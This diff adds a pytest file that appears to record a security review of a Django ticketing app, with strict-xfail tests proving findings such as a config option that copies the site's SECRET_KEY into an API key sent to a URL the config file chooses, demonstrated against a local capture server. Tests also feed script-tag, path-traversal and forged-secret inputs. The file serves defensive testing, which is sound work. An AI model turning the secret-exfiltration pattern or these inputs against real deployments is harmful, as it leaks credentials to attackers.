@@ -1,0 +1,222 @@
+"""Security review of "A house that grows" (branch review): proofs of the findings.
+
+Each `xfail(strict=True)` test asserts the behaviour the product SHOULD have and fails today,
+which proves the finding; when the finding is fixed the test passes and strict xfail turns it
+red, so whoever fixes it removes the marker. The plain tests pin down places that were checked
+and found sound.
+"""
+
+from __future__ import annotations
+
+import pytest
+from cryptography.fernet import Fernet
+from django.conf import settings
+
+from boxoffice.catalog.config_as_code import ConfigError, config_apply, config_export
+from boxoffice.panels.models import Panel
+
+PANEL = """\
+[[panel]]
+name = "P"
+kind = "xui_one"
+api_url = "http://127.0.0.1:8200"
+public_url = "http://127.0.0.1:8200"
+"""
+
+
+# --- F1: `<secret>_env` reads ANY environment variable ----------------------------------------
+
+
+@pytest.mark.xfail(strict=True, reason="FINDING F1: *_env may name the Django secrets")
+@pytest.mark.parametrize("env_name", ["SECRET_KEY", "FIELD_ENCRYPTION_KEYS", "DATABASE_URL"])
+def test_f1_secret_env_cannot_name_the_sites_own_secrets(db, monkeypatch, env_name):
+    # In production these variables are set (settings require them); the file needs no more
+    # than `api_key_env = "SECRET_KEY"` to copy the site's secret into the panel's API key,
+    # which the adapter then sends to api_url (a host the file also chooses) on every call.
+    monkeypatch.setenv(env_name, "the-sites-own-secret")
+    text = PANEL + f'api_key_env = "{env_name}"\n'
+    with pytest.raises(ConfigError):
+        config_apply(text=text)
+    assert not Panel.objects.exists()
+
+
+def test_f1_proof_the_copied_secret_is_sent_to_the_url_the_file_chose(db, monkeypatch):
+    """Today's behaviour, end to end: whoever writes the file reads the site's SECRET_KEY on
+    a server of their own (here a capture server on a free loopback port)."""
+    import http.server
+    import threading
+
+    seen: list[str] = []
+
+    class Capture(http.server.BaseHTTPRequestHandler):
+        def do_POST(self):  # noqa: N802 - http.server's name
+            self.rfile.read(int(self.headers.get("Content-Length") or 0))
+            seen.append(self.path)
+            self.send_response(200)
+            self.send_header("Content-Type", "application/json")
+            self.end_headers()
+            self.wfile.write(b'{"status": "STATUS_SUCCESS", "data": {"username": "x"}}')
+
+        def log_message(self, *args):
+            pass
+
+    server = http.server.HTTPServer(("127.0.0.1", 0), Capture)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    try:
+        monkeypatch.setenv("SECRET_KEY", settings.SECRET_KEY)
+        url = f"http://127.0.0.1:{server.server_port}"
+        config_apply(
+            text=PANEL.replace("http://127.0.0.1:8200", url)
+            + 'access_code = "x"\napi_key_env = "SECRET_KEY"\n'
+        )
+        Panel.objects.get(name="P").adapter().health()
+    finally:
+        server.shutdown()
+        server.server_close()
+    from urllib.parse import parse_qs, urlsplit
+
+    [path] = seen
+    assert parse_qs(urlsplit(path).query)["api_key"] == [settings.SECRET_KEY]
+
+
+# --- F2: a wrong FIELD_ENCRYPTION_KEYS turns every page that loads a panel into a 500 -----------
+
+
+@pytest.mark.xfail(strict=True, reason="FINDING F2: undecryptable Panel.secrets -> 500")
+def test_f2_panel_list_survives_a_rotated_away_key(admin_client, db, settings):
+    config_apply(text=PANEL + 'api_key = "k-123"\n')
+    settings.FIELD_ENCRYPTION_KEYS = [Fernet.generate_key().decode()]  # the old key lost
+    admin_client.raise_request_exception = False
+    response = admin_client.get("/admin/panels/panel/")
+    assert response.status_code == 200
+
+
+@pytest.mark.xfail(strict=True, reason="FINDING F2: export dies on an undecryptable row")
+def test_f2_export_survives_a_rotated_away_key(db, settings):
+    # Export writes no secret values at all, yet loading the row decrypts Panel.secrets.
+    config_apply(text=PANEL + 'api_key = "k-123"\n')
+    settings.FIELD_ENCRYPTION_KEYS = [Fernet.generate_key().decode()]
+    assert "api_key_env" in config_export()
+
+
+@pytest.mark.xfail(strict=True, reason="FINDING F2: the customer-facing checkout 500s too")
+def test_f2_checkout_survives_a_rotated_away_key(client, db, settings, plan):
+    settings.FIELD_ENCRYPTION_KEYS = [Fernet.generate_key().decode()]
+    client.raise_request_exception = False
+    assert client.get(f"/checkout/{plan.slug}/").status_code == 200
+
+
+# --- F3: TOML `regions` items are not checked (any JSON is stored) -----------------------------
+
+
+@pytest.mark.xfail(strict=True, reason="FINDING F3: regions items of any type are saved")
+@pytest.mark.parametrize("regions", ["[{a = 1}]", "[1, 2]", '[["DE"]]'])
+def test_f3_regions_must_be_a_list_of_codes(db, regions):
+    with pytest.raises(ConfigError):
+        config_apply(text=PANEL + f"regions = {regions}\n")
+    assert not Panel.objects.exists()
+
+
+@pytest.mark.parametrize(
+    "line",
+    ["capacity = [1]", "timeout_seconds = {a = 1}", "api_url = 5", "enabled = [true]"],
+)
+def test_other_bad_types_are_config_errors(db, line):
+    with pytest.raises(ConfigError):
+        config_apply(text=PANEL + line + "\n")
+    assert not Panel.objects.exists()
+
+
+# --- F4: a panel_back_up receiver that raises turns a successful probe into a failure -----------
+
+
+@pytest.mark.xfail(strict=True, reason="FINDING F4: signal sent with send(), not send_robust()")
+def test_f4_a_failing_receiver_does_not_count_as_a_failed_probe(panel, xui_emulator):
+    from boxoffice.panels.signals import panel_back_up
+    from boxoffice.provisioning.reconcile import panel_probe_and_drain
+
+    Panel.objects.filter(pk=panel.pk).update(health=Panel.Health.DOWN, consecutive_failures=3)
+
+    def broken_receiver(**_kw):
+        raise RuntimeError("a receiver bug")
+
+    panel_back_up.connect(broken_receiver, dispatch_uid="review-broken")
+    try:
+        result = panel_probe_and_drain(panel_id=panel.pk)
+    finally:
+        panel_back_up.disconnect(dispatch_uid="review-broken")
+    panel.refresh_from_db()
+    # The panel answered: the probe is "up" and nothing says it failed.
+    assert (result, panel.consecutive_failures, panel.last_error) == (
+        "up, its queue released",
+        0,
+        "",
+    )
+
+
+# --- F5: the secret fields are not CSRF/permission special, checked: view-only staff ----------
+
+
+def test_view_only_staff_sees_no_secret_and_cannot_post(client, db, panel):
+    from django.contrib.auth.models import Permission, User
+
+    user = User.objects.create_user("viewer", password="pw-viewer-1", is_staff=True)
+    user.user_permissions.add(Permission.objects.get(codename="view_panel"))
+    client.force_login(user)
+    url = f"/admin/panels/panel/{panel.pk}/change/"
+    page = client.get(url)
+    assert page.status_code == 200
+    assert "test-api-key" not in page.content.decode()
+    response = client.post(url, {"name": "renamed", "kind": "xui_one", "api_key": "evil"})
+    assert response.status_code == 403
+    panel.refresh_from_db()
+    assert panel.secrets == {"api_key": "test-api-key"}
+
+
+def test_admin_post_without_csrf_token_is_refused(db, panel):
+    from django.contrib.auth.models import User
+    from django.test import Client
+
+    User.objects.create_superuser("root", "r@x.test", "pw-root-1")
+    csrf_client = Client(enforce_csrf_checks=True)
+    csrf_client.login(username="root", password="pw-root-1")
+    response = csrf_client.post(f"/admin/panels/panel/{panel.pk}/change/", {"api_key": "evil"})
+    assert response.status_code == 403
+
+
+# --- checked and sound -----------------------------------------------------------------------
+
+
+def test_export_never_writes_a_secret_value(db):
+    config_apply(text=PANEL + 'api_key = "k-very-secret"\n')
+    out = config_export()
+    assert "k-very-secret" not in out
+    assert 'api_key_env = "P_API_KEY"' in out
+
+
+def test_unset_env_is_a_clear_error_and_nothing_is_applied(db, monkeypatch):
+    monkeypatch.delenv("NOPE_NOT_SET", raising=False)
+    with pytest.raises(ConfigError, match="NOPE_NOT_SET is not set"):
+        config_apply(text=PANEL + 'api_key_env = "NOPE_NOT_SET"\n')
+    assert not Panel.objects.exists()
+
+
+def test_admin_unknown_kind_in_query_or_post_is_no_500(admin_client, db):
+    assert admin_client.get("/admin/panels/panel/add/?kind=<script>").status_code == 200
+    response = admin_client.post("/admin/panels/panel/add/", {"name": "x", "kind": "../../x"})
+    assert response.status_code == 200
+    assert "kind" in response.context["adminform"].form.errors
+
+
+def test_webhook_for_unknown_disabled_or_odd_kind(client, db, settings):
+    settings.PAYMENT_GATEWAYS = ["manual"]
+    assert client.post("/billing/webhooks/stripe/", b"{}", "application/json").status_code == 404
+    assert client.post("/billing/webhooks/nope/", b"{}", "application/json").status_code == 404
+    assert client.post("/billing/webhooks/__init__/", b"{}", "application/json").status_code == 404
+    assert client.post("/billing/webhooks/manual/", b"{}", "application/json").status_code == 400
+
+
+def test_dev_tools_off_in_this_settings_module_when_production_flag_set():
+    # settings.DEV_TOOLS is computed from BOXOFFICE_ENV at import; the production run itself
+    # is covered by test_production (own process).
+    assert settings.DEV_TOOLS_APP == "boxoffice_dev"
